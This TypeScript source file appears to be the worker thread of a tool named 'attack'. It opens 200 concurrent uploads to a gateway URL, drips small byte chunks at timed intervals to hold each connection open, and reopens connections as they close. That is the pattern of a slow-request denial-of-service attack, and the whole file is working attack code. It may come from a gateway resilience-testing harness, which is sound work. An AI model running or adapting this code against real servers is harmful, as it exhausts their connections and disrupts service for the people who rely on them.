/** The thread of attack.ts: says once that all requests have begun, and goes on until it is ended. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "./attack.ts";
import { openUpload } from "./bodies.ts";

const OPENED_AT_ONCE = 200;

interface Scope {
  onmessage: ((event: MessageEvent<{ url: string; attack: Attack }>) => void) | null;
  postMessage(message: unknown): void;
}
const scope = globalThis as unknown as Scope;

scope.onmessage = async ({ data: { url, attack } }) => {
  let left = attack.requests;
  await Promise.all(Array.from({ length: OPENED_AT_ONCE }, async () => {
    while (left-- > 0) await begin({ url }, attack);
  }));
  scope.postMessage("begun");
};

async function begin(gateway: { url: string }, attack: Attack) {
  const { headers, firstBytes, drip } = attack;
  const upload = await openUpload(gateway, headers);
  const first = upload.send(new Uint8Array(firstBytes));
  if (drip === null) return await first;
  (async () => {
    let goesOn = await first;
    while (goesOn) {
      await sleep(drip.everyMs);
      goesOn = await upload.send(new Uint8Array(drip.bytes));
    }
    upload.close();
    await begin(gateway, attack);
  })();
}
